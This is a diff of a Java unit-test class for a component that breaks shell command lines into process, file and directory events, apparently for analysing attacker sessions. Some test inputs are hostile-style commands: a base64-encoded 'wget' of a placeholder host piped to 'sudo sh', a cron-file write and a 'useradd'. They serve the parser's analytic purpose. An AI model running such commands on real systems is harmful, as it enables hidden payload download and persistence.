@@ -8,6 +8,7 @@ import org.decnet.model.event.Event;
 import org.decnet.model.event.EventIds;
 import org.decnet.model.event.EventKind;
 import org.decnet.model.event.Field;
+import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
@@ -91,25 +92,33 @@ class StatementDeriverTest {
 
   @Test
   void pipesAndRedirectionsAreFields() {
-    Event process = deriver.derive(command("echo a | tee < i > o >> p 2>&1 &")).events().get(1);
+    Event process = deriver.derive(command("echo a | tee > o >> p 2>&1 &")).events().get(1);
 
     assertThat(process.text(Field.PIPE_FROM)).isEqualTo("echo");
     assertThat(process.text(Field.STDIN_TEXT)).isEqualTo("a");
-    assertThat(process.list(Field.REDIRECT_IN)).containsExactly("i");
     assertThat(process.list(Field.REDIRECT_OUT)).containsExactly("o");
     assertThat(process.list(Field.REDIRECT_APPEND)).containsExactly("p");
     assertThat(process.flag(Field.BACKGROUND)).isTrue();
     assertThat(process.get(Field.DECODED)).isEqualTo(false);
   }
 
+  @Test
+  void redirectedInputIsReadInsteadOfThePipe() {
+    Event process = deriver.derive(command("echo a | tee < i")).events().get(1);
+
+    assertThat(process.list(Field.REDIRECT_IN)).containsExactly("i");
+    assertThat(process.get(Field.STDIN_TEXT)).isNull();
+  }
+
   @ParameterizedTest
   @CsvSource({
-    "./x,./x",
+    "./x,/root/x",
+    "../opt/y,/opt/y",
     "/opt/y -a,/opt/y",
     "useradd k,/usr/sbin/useradd",
     "unheard-of,/usr/bin/unheard-of"
   })
-  void imageIsThePathAsTypedOrTheUsualOne(String line, String image) {
+  void imageIsTheAbsolutePathOrTheUsualOne(String line, String image) {
     assertThat(deriver.derive(command(line)).events().getFirst().text(Field.IMAGE))
         .isEqualTo(image);
   }
@@ -146,7 +155,12 @@ class StatementDeriverTest {
         "busybox echo -e 'a\\x62' > f ~ create /root/f ab",
         "sudo sh -c 'echo x > /etc/cron.d/y' ~ create /etc/cron.d/y x",
         "echo x > $d/f ~ create $d/f x",
-        "echo x 2> e ~ create /root/e null"
+        "echo x 2> e ~ create /root/e null",
+        "echo aWQ= | base64 -d > f ~ create /root/f id",
+        "sh -c 'cd /a; echo x > f' ~ create /a/f x",
+        "a=/tmp/f; echo x > $a ~ create /tmp/f x",
+        "printf '\\x69d' >> f ~ append /root/f id",
+        "echo 'echo x > f' | sh ~ create /root/f x"
       })
   void writtenFilesAreFileOperations(String line, String expected) {
     List<String> found =
@@ -204,6 +218,76 @@ class StatementDeriverTest {
 
     assertThat(derived.events()).isEmpty();
     assertThat(derived.base().flag(Field.PROMPT_TEXT)).isTrue();
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "/ip/address/print",
+        "/system/identity/print",
+        "show version",
+        "show running-config",
+        "configure terminal",
+        "terminal length 0",
+        "Enter new UNIX password:",
+        "New password: s3cret"
+      })
+  void otherConsolesAndQuestionsAreMarkedToo(String line) {
+    assertThat(deriver.derive(command(line)).base().flag(Field.PROMPT_TEXT)).isTrue();
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "/system/bin/sh",
+        "/user/x",
+        "enable",
+        "system",
+        "shell",
+        "showmount -e h",
+        "ip a",
+        "display x.png",
+        "/tools/x"
+      })
+  void programsThatLookLikeConsolesAreShell(String line) {
+    StatementDeriver.Derived derived = deriver.derive(command(line));
+
+    assertThat(derived.base().flag(Field.PROMPT_TEXT)).isFalse();
+    assertThat(derived.events()).hasSize(1);
+  }
+
+  @Test
+  void decodedStatementsAreProcessesOfTheShellThatReadsThem() {
+    List<Event> events =
+        deriver.derive(command("echo d2dldCBodHRwOi8vaC94Cg== | base64 -d | sudo sh")).events();
+    Event decoded = events.getLast();
+
+    assertThat(decoded.text(Field.COMMAND_LINE)).isEqualTo("wget http://h/x");
+    assertThat(decoded.text(Field.IMAGE)).isEqualTo("/usr/bin/wget");
+    assertThat(decoded.flag(Field.DECODED)).isTrue();
+    assertThat(decoded.list(Field.VIA)).containsExactly("sudo", "sh");
+    assertThat(decoded.text(Field.PARENT_IMAGE)).isEqualTo("/usr/bin/sh");
+    assertThat(decoded.text(Field.STATEMENT_TEXT)).isEqualTo("echo d2dldCBodHRwOi8vaC94Cg==");
+    assertThat(decoded.integer(Field.SPAN_START)).isZero();
+    assertThat(events.get(1).text(Field.PIPE_TO)).isEqualTo("sh");
+    assertThat(events.get(3).text(Field.STDIN_TEXT)).isEqualTo("wget http://h/x");
+  }
+
+  @Test
+  void directoryOfAStartedShellIsItsOwn() {
+    assertThat(directories("cd /a; sh -c 'cd /b; id'; w"))
+        .containsExactly("/root", "/a", "/a", "/b", "/a");
+    assertThat(directories("echo 'cd /b; id' | sh; w"))
+        .containsExactly("/root", "/root", "/root", "/b", "/root");
+    assertThat(directories("eval 'cd /b'; id")).containsExactly("/root", "/root", "/b");
+    assertThat(directories("x=$(cd /b; pwd); id"))
+        .containsExactly("/root", "/root", "/root", "/root");
+  }
+
+  private List<@Nullable String> directories(String line) {
+    return deriver.derive(command(line)).events().stream()
+        .map(event -> event.text(Field.CURRENT_DIRECTORY))
+        .toList();
   }
 
   @Test
